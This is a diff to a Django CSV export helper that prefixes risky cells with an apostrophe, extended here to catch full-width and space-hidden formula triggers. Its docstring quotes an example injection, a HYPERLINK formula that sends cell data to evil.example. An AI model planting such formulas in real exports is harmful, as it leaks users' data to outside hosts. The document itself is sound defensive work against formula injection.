@@ -2,8 +2,10 @@
 
 Every text cell goes through `csv_safe`: a cell that begins with =, +, -, @, a tab or a carriage return would be
 read by Excel (or LibreOffice) as a formula, so a company called =HYPERLINK("http://evil.example/?x="&A1,"x")
-could send the desk's data away. Such a cell gets a leading apostrophe (OWASP's advice), which the spreadsheet
-shows as plain text. Numbers stay numbers.
+could send the desk's data away. Japanese Excel also takes the full-width signs (＝ ＋ － ＠, and the minus sign
+U+2212 an IME may type) as their ASCII forms, and a formula may hide behind leading spaces (ASCII or the
+ideographic space). Such a cell gets a leading apostrophe (OWASP's advice), which the spreadsheet shows as plain
+text. Numbers stay numbers.
 """
 
 import csv
@@ -12,7 +14,8 @@ from decimal import Decimal
 
 from django.http import HttpResponse
 
-FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\u2212")
+LEADING_SPACE = " \u3000"
 
 
 def csv_safe(value: object) -> object:
@@ -20,7 +23,7 @@ def csv_safe(value: object) -> object:
     if isinstance(value, bool) or value is None or isinstance(value, int | float | Decimal):
         return value
     text = str(value)
-    if text.startswith(FORMULA_TRIGGERS):
+    if text.startswith(FORMULA_TRIGGERS) or text.lstrip(LEADING_SPACE).startswith(FORMULA_TRIGGERS):
         return "'" + text
     return text
 
